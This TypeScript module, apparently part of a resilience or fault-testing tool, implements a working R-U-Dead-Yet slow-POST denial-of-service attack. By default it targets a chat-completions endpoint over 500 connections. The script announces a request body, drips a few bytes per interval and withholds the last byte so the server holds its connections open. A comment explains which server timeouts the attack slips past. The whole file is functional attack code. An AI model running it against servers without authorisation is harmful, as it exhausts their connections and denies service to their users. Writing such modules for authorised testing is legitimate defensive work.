import { z } from 'zod';
import { attackOf } from './attack.ts';
import { attackFault } from './attacker/attack-fault.ts';
import { holdingOpening, holdingShape } from './script/opening.ts';
import { requestHead } from './script/request-text.ts';

/**
 * R-U-Dead-Yet: announces a body and drips it. The last byte is never sent. Bounds on the gap between two reads, such as nginx's
 * `client_body_timeout`, do not see it while `intervalMs` is shorter; a deadline for the whole request or a minimum rate does.
 */
export const attack = attackOf({
  kind: 'slow-body',
  summary: 'Announces a body and drips a few bytes of it every interval, never the last one.',
  defaultForMs: 15_000,
  needsModel: false,
  parameters: z.object({
    ...holdingShape({ connections: 500, perSecond: 200, path: '/v1/chat/completions' }),
    intervalMs: z.number().min(10).max(600_000).default(1000).describe('between two pieces'),
    contentLength: z.int().min(2).max(1_000_000_000).default(4096).describe('bytes announced'),
    pieceBytes: z.int().min(1).max(65_536).default(8).describe('bytes of each piece'),
  }),
  script: (parameters, target) => {
    const { intervalMs: againMs, contentLength, pieceBytes, path } = parameters;
    const head = requestHead(target, 'POST', path, [
      'Content-Type: application/json',
      `Content-Length: ${contentLength}`,
    ]);
    return {
      opening: holdingOpening(parameters),
      read: 'all',
      answers: null,
      step: (_connection, turn) => {
        if (turn === 0) return { write: `${head}\r\n`, againMs };
        const left = contentLength - 1 - (turn - 1) * pieceBytes;
        return left > 0 ? { write: 'a'.repeat(Math.min(left, pieceBytes)), againMs } : {};
      },
    };
  },
});

/** The same in a scenario. */
export const fault = attackFault(attack);
